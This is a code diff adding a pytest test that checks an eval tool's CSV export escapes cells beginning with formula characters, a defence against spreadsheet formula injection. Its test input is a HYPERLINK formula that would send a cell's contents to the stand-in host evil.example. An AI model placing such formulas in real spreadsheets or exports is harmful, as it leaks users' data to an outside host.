@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 from pathlib import Path
 
@@ -115,3 +116,27 @@ def test_export_errors_are_one_line_exit_2(
     assert list(tmp_path.iterdir()) == [] or all(
         not p.name.startswith(".") for p in tmp_path.iterdir()
     )
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
+    tmp_path: Path, cli, lead: str
+) -> None:
+    """A response (or sample id) starting with =, +, -, @, tab or CR is written with a
+    leading apostrophe, so a spreadsheet shows it as text instead of running it as a
+    formula; numbers stay numbers (before: `=HYPERLINK(...)` went out unchanged)."""
+    text = f'{lead}HYPERLINK("http://evil.example/?"&A1, "click")'
+    (tmp_path / "d.jsonl").write_text(json.dumps({"id": f"{lead}id"}) + "\n")
+    (tmp_path / "rec.jsonl").write_text(json.dumps({"id": f"{lead}id", "out": text}) + "\n")
+    (tmp_path / "s.yaml").write_text(
+        "name: r\ndataset: {path: d.jsonl}\nprompt: 'q'\ntarget: x\n"
+        "model: {provider: replay, name: m, recordings: {path: rec.jsonl, "
+        "response_field: out}}\nscorer: {type: exact}\n"
+    )
+    run = gradetrail.run_eval(gradetrail.load_spec(tmp_path / "s.yaml"), results_root=tmp_path)
+    out = cli("export", str(run.run_dir), "--format", "csv", "--out", "-")
+    assert out.exit_code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out.stdout, newline="")))
+    assert row["response"] == "'" + text
+    assert row["sample_id"] == f"'{lead}id"
+    assert row["score"] == "0.0"  # a number is not text: left as it is
